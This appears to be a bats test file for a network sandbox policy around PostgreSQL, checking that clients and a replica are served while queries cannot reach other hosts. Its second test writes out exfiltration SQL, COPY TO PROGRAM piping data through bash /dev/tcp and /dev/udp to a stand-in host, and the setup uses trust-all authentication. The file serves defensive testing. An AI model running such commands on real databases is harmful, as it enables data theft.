#!/usr/bin/env bats
# SPDX-License-Identifier: BSD-2-Clause
# database.ini with PostgreSQL: clients and the replica are served, the server reaches its replica;
# a query reaches nobody else, be it by a program of its own.

load ../lib/services

setup() {
	local directory
	directory=$(find /usr/lib/postgresql -path '*/bin/postgres' 2>/dev/null | sort -V | tail -n 1)
	PATH=$PATH:${directory%/*}
	services_setup postgres initdb psql pg_basebackup
	install -d -o postgres -g postgres "$W/database" "$W/replica"
	as postgres initdb -D "$W/database" --auth=trust --no-sync --encoding=UTF8 --locale=C.UTF-8 \
		>"$W/initdb.out"
	cat >>"$W/database/pg_hba.conf" <<-END
		host all all all trust
		host replication all all trust
	END
}

teardown() {
	services_teardown
}

start() { # POLICY
	serve "$1" setpriv --reuid=postgres --regid=postgres --init-groups postgres -D "$W/database" \
		-c "unix_socket_directories=$W/database" -c fsync=off -c 'listen_addresses=*'
	ready ask 'SELECT 1'
}

# SIGTERM would wait for the replica to be gone.
stop() {
	kill -INT "$(head -n 1 "$W/database/postmaster.pid")"
	wait "$SERVED" || :
	SERVED=
}

ask() { # QUERY: through the UNIX socket
	in_network psql -qAtX -h "${HOST:-$W/database}" -U postgres postgres -c "$1" 2>&1
}

@test "PostgreSQL serves clients and its replica, and reaches the replica, with nothing refused" {
	start database
	ask 'CREATE TABLE t AS SELECT generate_series(1, 20000) AS n; CREATE INDEX ON t (n)'
	[ "$(HOST=192.0.2.1 ask 'SELECT sum(n) FROM t')" = 200010000 ]
	[ "$(HOST=fd00::1 ask 'SELECT count(*) FROM t')" = 20000 ]
	ask 'SET max_parallel_workers_per_gather = 2; SET parallel_setup_cost = 0; ANALYZE t;
		SELECT count(*) FROM t'
	ask CHECKPOINT
	in_network setpriv --reuid=postgres --regid=postgres --init-groups pg_basebackup --no-sync \
		-h 192.0.2.1 -U postgres -D "$W/replica" --checkpoint=fast
	[ -s "$W/replica/PG_VERSION" ]
	[ "$(ask "CREATE EXTENSION dblink; SELECT n FROM dblink(
		'host=192.0.2.20 user=postgres', 'SELECT count(*) FROM t') AS r(n int)")" = 20000 ]
	stop
	decisions_are
}

@test "a query reaches nobody else: not as a client, not by a program, not by UDP" {
	start database
	ask 'CREATE EXTENSION dblink'
	run ask "SELECT dblink_connect('host=192.0.2.21 user=postgres')"
	[[ "$output" == *"Operation not permitted"* ]]
	run ask "COPY (SELECT 'loot') TO PROGRAM 'exec bash -c ''cat >/dev/tcp/198.51.100.9/443'''"
	[[ "$output" == *"program"*"failed"* ]]
	run ask "COPY (SELECT 'loot') TO PROGRAM 'exec bash -c ''cat >/dev/udp/198.51.100.9/53'''"
	[[ "$output" == *"program"*"failed"* ]]
	stop
	decisions_are "denied connect tcp 192.0.2.21:5432" "denied connect tcp 198.51.100.9:443" \
		"denied connect udp 198.51.100.9:53"
}
